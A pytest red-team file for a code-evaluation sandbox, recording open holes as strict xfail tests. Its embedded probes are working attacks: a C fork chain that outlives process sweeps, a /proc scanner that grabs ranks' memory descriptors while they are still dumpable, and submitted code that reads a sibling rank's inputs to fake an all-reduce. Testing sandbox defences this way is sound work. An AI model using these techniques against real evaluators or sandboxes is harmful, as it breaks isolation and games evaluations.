"""Red-team review of 2026-11-29: the non-dumpable ranks, the compile pass's import server,
and the finished message's "fault" field, tried from inside by bundle code on two gloo
ranks (each attack followed by an honest solution judged right after on the same worker).

Findings recorded here fail today and are marked xfail(strict=True):

- A rank is not dumpable from `rank_process.start` on, but a spawned rank is a fresh
  `execve` of Python, which the kernel makes dumpable (SUID_DUMP_USER): it stays so
  through the interpreter's start and the unpickling of its setup, which imports torch
  (seconds on a CPU host). Whatever bundle process is alive in the sandbox then (same
  user, same pid namespace, no Yama) opens `/proc/<rank>/mem` and `/proc/<rank>/maps`;
  the kernel checks access at open only, so the descriptors keep reading the rank's
  memory after it made itself not dumpable.
- Such a process exists: the compile pass's child leaves one behind (double fork,
  `setsid`: out of the import server's process group, so `_stop` misses it), and it
  outlives the orphan sweeps (`Sandbox.kill_strays`, one pass over a listing of /proc)
  by forking anew and exiting, over and over: the pid the sweep listed is gone when the
  sweep gets to it, and its successor was never listed.
- With both, a rank reads its sibling's inputs out of the sibling's arena: an all-reduce
  with no data moved. The process left behind is also in no rank's freezer cgroup (it
  was born in the compile pass), so it runs while the reference's rounds are timed.
- bwrap's own processes inside the sandbox (its init, pid 1, and the holder, pid 2) ran
  as the candidate user and were dumpable: bundle code opened their memory for writing.
  Fixed the same day: bwrap runs with --as-pid-1 (no init of its own inside) and the
  holder, now the namespace's init, is not dumpable before it says ready
  (`test_no_process_of_the_sandbox_is_open_to_bundle_code` passes).
"""

from __future__ import annotations

import os

import pytest

from evaluator.contract import ProblemStatus
from tests.evaluator.judging import judge_files, small_settings
from tests.evaluator.scratch import freezes_here
from tests.redteam import attacks

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0, reason="the sandbox's walls are for bundle code run as another user"
)

KEEPERS = 3
FARM = 100  # zombies per keeper every 200 ms, each for 450 ms: about 700 at most

# The process the compile pass leaves behind: a fork chain in C (a Python fork takes
# 1.6 ms on the test machine, longer than the sweep's whole pass, 0.7 ms; a C fork is far
# quicker than the pass), which every 200 ms starts a scanner (argv[1:]) that the sweeps
# may kill: the next one comes. gcc is the host's, as a CUDA extension's build uses it; a
# bundle could as well carry the binary's bytes.
KEEPER = r"""
#include <time.h>
#include <unistd.h>
static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}
/* Zombies, for half a second: pids below the chain's next links, which a sweep's pass
   reads and signals before it reaches the chain, using no CPU while it does. */
static void farm(void) {
    if (fork() != 0) return;
    for (int i = 0; i < FARM; i++)
        if (fork() == 0) _exit(0);
    usleep(450000);
    _exit(0);
}
int main(int argc, char **argv) {
    double end = now() + 150, next = 0;
    for (;;) {
        pid_t p = fork();
        if (p > 0) _exit(0); /* the sweep listed this pid; its successor it never saw */
        if (p < 0) continue;
        /* The scanner holds both ranks: nothing is swept before their first call. */
        if (access("/tmp/pkb-rt-peek-quiet", F_OK) == 0) _exit(0);
        double t = now();
        if (t > next) {
            next = t + 0.2;
            if (t > end) _exit(0);
            if (fork() == 0) { execv(argv[1], argv + 1); _exit(1); }
            farm();
        }
    }
}
"""

# Run by the keeper as `python -I -S -c SCAN`: opens every new rank's memory while the
# rank is still dumpable, and hands the descriptors to whoever asks. It never names the
# spawn entry point itself (it would find itself).
SCAN = r"""
import json, os, socket, time
srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    srv.bind("\0pkb-rt-peek")
except OSError:
    raise SystemExit  # another scanner is alive
srv.listen(8)
srv.setblocking(False)
held, served = {}, 0
end = time.monotonic() + 150
KEY = b"spawn" + b"_main"
while time.monotonic() < end and served < 2 and not os.path.exists("/tmp/pkb-rt-peek-done"):
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) in held:
            continue
        pid = int(p)
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as f:
                if KEY not in f.read():
                    continue
            mem = os.open("/proc/%d/mem" % pid, os.O_RDONLY)
        except OSError:
            continue
        try:
            maps = os.open("/proc/%d/maps" % pid, os.O_RDONLY)
        except OSError:
            os.close(mem)
            continue
        held[pid] = (mem, maps)
        if len(held) >= 2:
            open("/tmp/pkb-rt-peek-quiet", "w").close()
    try:
        conn, _ = srv.accept()
    except BlockingIOError:
        conn = None
    if conn is not None:
        pids = sorted(held)
        conn.setblocking(True)
        socket.send_fds(conn, [json.dumps(pids).encode()], [fd for p in pids for fd in held[p]])
        conn.close()
        served += 1
    time.sleep(0.001)
"""

PEEK = """
import json, os, socket, struct, subprocess, sys
import torch
import torch.distributed as dist

KEEPERS = {keepers}
FARM = {farm}
KEEPER = {keeper!r}
SCAN = {scan!r}


def _leave_behind():
    # In the compile pass's child: processes out of its group that outlive it.
    folder = os.environ["TMPDIR"]
    with open(os.path.join(folder, "keeper.c"), "w") as f:
        f.write(KEEPER)
    binary = os.path.join(folder, "keeper")
    source = os.path.join(folder, "keeper.c")
    subprocess.run(["gcc", "-O2", f"-DFARM={{FARM}}", "-o", binary, source], check=True)
    for _ in range(KEEPERS):
        pid = os.fork()
        if pid == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    os.execv(binary, [binary, sys.executable, "-I", "-S", "-c", SCAN])
            finally:
                os._exit(0)
        os.waitpid(pid, 0)


if not dist.is_initialized():
    _leave_behind()


def _lines(fd):
    os.lseek(fd, 0, os.SEEK_SET)
    chunks = []
    while True:
        chunk = os.read(fd, 1 << 16)
        if not chunk:
            return b"".join(chunks).decode().splitlines()
        chunks.append(chunk)


def _arena(lines, inside=None):
    for line in lines:
        if "memfd:pkb-arena" in line:
            low, high = (int(v, 16) for v in line.split()[0].split("-"))
            if inside is None or low <= inside < high:
                return low, high
    return None


def _freezer(text):
    # cgroup v1's freezer hierarchy, else v2's one hierarchy
    lines = text.strip().splitlines()
    found = [line for line in lines if ":freezer:" in line] or lines[-1:]
    return found[0].split(":", 2)[2] if found else "?"


def _peek(x):
    out = []
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect("\\0pkb-rt-peek")
        peer = struct.unpack("3i", s.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
        msg, fds, _, _ = socket.recv_fds(s, 4096, 16)
    except OSError as exc:
        return [f"no scanner: {{exc.strerror}}"], None
    finally:
        s.close()
    out.append("a process of the compile pass answered during the rounds")
    try:
        theirs, mine = (_freezer(open(f"/proc/{{p}}/cgroup").read()) for p in (peer, "self"))
        same = theirs == mine
        out.append("its cgroup: " + ("the rank's" if same else f"{{theirs}}, not {{mine}}"))
    except OSError as exc:
        out.append(f"its cgroup: {{exc.strerror}}")
    pids = json.loads(msg)
    me = os.getpid()
    out.append(f"held {{len(pids)}} ranks, self among them: {{me in pids}}")
    mine = _arena(open("/proc/self/maps").read().splitlines(), x.data_ptr())
    for i, pid in enumerate(pids):
        if pid == me:
            continue
        try:
            open(f"/proc/{{pid}}/mem", "rb").close()
            out.append("sibling mem opened directly")
        except OSError as exc:
            out.append(f"sibling mem directly: {{exc.strerror}}")
        mem, maps = fds[2 * i], fds[2 * i + 1]
        theirs = _arena(_lines(maps))
        if mine is None or theirs is None:
            out.append(f"arena not found: {{mine}} {{theirs}}")
            continue
        size = x.numel() * x.element_size()
        data = os.pread(mem, size, theirs[0] + x.data_ptr() - mine[0])
        out.append("sibling mem READ through a descriptor opened while it was dumpable")
        return out, torch.frombuffer(bytearray(data), dtype=x.dtype).reshape(x.shape)
    return out, None


def solution(x):
    dist.barrier()  # the sibling is in its call: its inputs are in its arena
    out, theirs = _peek(x)
    honest = x.clone()
    dist.all_reduce(honest)
    if theirs is not None and torch.equal(x + theirs, honest):
        out.append("SIBLING INPUT READ: its all-reduce needs no communication")
    open("/tmp/pkb-rt-peek-done", "w").close()
    dist.barrier()
    raise RuntimeError(f"peek probe done: {{out}}")
"""


def _peek_source() -> str:
    return PEEK.format(keepers=KEEPERS, farm=FARM, keeper=KEEPER, scan=SCAN)


@pytest.fixture(scope="module")
def peeked() -> str:
    """The probe's message: one evaluation for the three claims below."""
    files = {"rt-peek.py": _peek_source(), "rt-after-peek.py": attacks.HONEST}
    catalog = {slug: attacks.problem(slug) for slug in ("rt-peek", "rt-after-peek")}
    settings = small_settings(
        "review-secret-0123456789", warmup=1, iters=4, rounds=1, problem_timeout_s=60
    )
    results = judge_files(files, catalog, settings, "review-peek")
    assert results["rt-after-peek"].status == ProblemStatus.PASSED, results["rt-after-peek"]
    message = results["rt-peek"].message
    assert "peek probe done" in message, message
    if "no scanner" in message:
        # The race is the attacker's to lose: on the loaded 2-core test machine the chain
        # outlived both sweeps in 6 runs of 8 (2026-11-29). A lost race proves nothing
        # held, so it is no pass either (strict xfail would read it as one).
        pytest.skip("the process left behind lost its race with the sweeps this run")
    # The sibling is not dumpable by now: opened directly, its memory is refused.
    assert "sibling mem opened directly" not in message, message
    return message


@pytest.mark.xfail(
    strict=True,
    reason="the compile pass's child double-forks out of the import server's group, and a "
    "process that forks anew and exits, over and over, outlives the one-pass sweeps "
    "(Sandbox.kill_strays): it is alive in the candidate ranks' rounds",
)
def test_nothing_the_compile_pass_started_is_alive_in_the_rounds(peeked):
    assert "no scanner" in peeked, peeked
    assert "a process of the compile pass answered" not in peeked, peeked


@pytest.mark.xfail(
    strict=True,
    reason="a rank is dumpable from its exec until the first line of its program "
    "(bubblewrap.NOT_DUMPABLE_FIRST; until 2026-11-29 until rank_process.start, after "
    "torch's import): a process left by the compile pass, scanning /proc in C, still opens "
    "a new rank's /proc/<pid>/mem while the interpreter starts, and keeps reading it",
)
def test_a_process_left_by_the_compile_pass_cannot_read_a_ranks_memory(peeked):
    assert "READ" not in peeked, peeked


@pytest.mark.xfail(
    strict=True,
    reason="a process the compile pass left behind is in the evaluation's cgroup, not in a "
    "rank's freezer: it runs while the reference's rounds are timed",
)
def test_a_process_left_by_the_compile_pass_is_frozen_with_the_candidate(peeked):
    if not freezes_here():
        pytest.skip("this host gives no freezer: hogs run (docs/security.md)")
    assert "its cgroup: the rank's" in peeked, peeked


HOLDERS = """
import os
import torch.distributed as dist


def solution(x):
    me, out = os.getpid(), []
    for p in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
        if p == me:
            continue
        try:
            with open(f"/proc/{p}/cmdline", "rb") as f:
                name = f.read().replace(b"\\0", b" ")[:40].decode(errors="replace")
            fd = os.open(f"/proc/{p}/mem", os.O_RDWR)
            os.close(fd)
            out.append(f"{p} {name!r}: mem OPENED for writing")
        except OSError as exc:
            out.append(f"{p} {name!r}: {exc.strerror}")
    dist.barrier()
    raise RuntimeError(f"holder probe done: {out}")
"""


def test_no_process_of_the_sandbox_is_open_to_bundle_code():
    """Every other process bundle code can see in its sandbox (bwrap's init, the holder,
    the sibling rank) refuses it /proc/<pid>/mem."""
    files = {"rt-holders.py": HOLDERS, "rt-after-holders.py": attacks.HONEST}
    catalog = {slug: attacks.problem(slug) for slug in ("rt-holders", "rt-after-holders")}
    settings = small_settings(
        "review-secret-0123456789", warmup=1, iters=4, rounds=1, problem_timeout_s=60
    )
    results = judge_files(files, catalog, settings, "review-holders")
    assert results["rt-after-holders"].status == ProblemStatus.PASSED
    message = results["rt-holders"].message
    assert "holder probe done" in message, message
    assert "OPENED" not in message, message
